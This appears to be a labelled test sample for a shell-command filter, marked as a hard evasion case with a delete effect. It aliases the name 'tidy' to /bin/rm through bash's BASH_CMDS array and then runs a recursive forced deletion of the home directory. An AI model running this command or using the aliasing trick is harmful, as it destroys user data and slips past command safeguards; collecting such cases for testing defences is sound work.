# evasion: a harmless-looking name mapped to rm through the BASH_CMDS hash array
# grade: hard; does: delete
BASH_CMDS[tidy]=/bin/rm
tidy -rf "$HOME"
